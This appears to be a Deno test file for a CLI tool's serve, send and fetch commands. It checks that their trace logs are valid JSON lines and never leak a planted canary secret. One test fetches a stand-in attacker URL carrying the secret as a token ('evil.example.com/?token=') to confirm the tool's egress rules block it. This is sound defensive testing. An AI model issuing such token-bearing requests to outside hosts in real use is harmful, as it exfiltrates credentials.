/**
 * The canary test of the trace files: serve, send and fetch write a valid JSON line
 * per request or attempt, and no canary in any form.
 */
import assert from "node:assert/strict";
import { runCli } from "../support/cli.ts";
import { closedPort } from "../support/recording_server.ts";
import { startServe } from "../support/serve_process.ts";
import {
  assertResultClean,
  CANARY,
  canaryDir,
  deliveries,
  ENV,
  traceLines,
} from "../support/canary.ts";

/**
 * A test of `command`'s --trace file, checked line by line: `fn` runs `command`
 * with the trace at `trace` in the scratch directory `cwd`.
 */
function traceTest(
  name: string,
  command: string,
  fn: (cwd: string, trace: string) => Promise<void>,
): void {
  Deno.test(name, async () => {
    await using dir = await canaryDir();
    await fn(dir.path, `${dir.path}/${command}-trace.jsonl`);
  });
}

traceTest(
  "canary: serve's trace holds a valid line per request and no canary",
  "serve",
  async (cwd, trace) => {
    const server = await startServe({ env: ENV, cwd, args: ["--trace", trace] });
    const exchanges = deliveries();
    try {
      for (const exchange of exchanges) {
        const response = await fetch(`${server.url}${exchange.path ?? "/webhook"}`, exchange.init);
        await response.body?.cancel();
      }
    } finally {
      await server.stop();
    }
    const records = traceLines(trace);
    // Refusals of one reason within a second share one record that counts them.
    const described = records.reduce((sum, record) => sum + (Number(record.count) || 1), 0);
    assert.ok(described >= exchanges.length, `${described} requests in the trace`);
    const requests = records.filter((record) => record.type === "request");
    assert.ok(requests.length > 0, "request records in the trace");
    for (const record of requests) {
      assert.equal(record.remoteAddress, "127.0.0.1");
    }
  },
);

traceTest(
  "canary: send's trace records each attempt and no canary",
  "send",
  async (cwd, trace) => {
    const url = `http://u:${CANARY}@127.0.0.1:${closedPort()}/?token=${CANARY}`;
    const args = ["send", url, "--data", JSON.stringify({ note: CANARY }), "--retries", "1"];
    const result = await runCli([...args, "--trace", trace], { env: ENV, cwd });
    assertResultClean("send", result);
    assert.notEqual(result.code, 0, "send to a closed port succeeded");
    assert.ok(traceLines(trace).length >= 2, "one line per attempt");
  },
);

traceTest(
  "canary: fetch's trace records a denial and a failure and no canary",
  "fetch",
  async (cwd, trace) => {
    const port = closedPort();
    const env = {
      ...ENV,
      EGRESS_ALLOW_HOSTS: `http://localhost:${port}`,
      EGRESS_ALLOW_PRIVATE: "localhost",
    };
    for (
      const url of [
        `https://evil.example.com/?token=${CANARY}`,
        `http://localhost:${port}/?sig=${CANARY}`,
      ]
    ) {
      assertResultClean(
        `fetch ${url}`,
        await runCli(["fetch", url, "--trace", trace], { env, cwd }),
      );
    }
    assert.ok(traceLines(trace).length >= 2, "one line per fetch");
  },
);
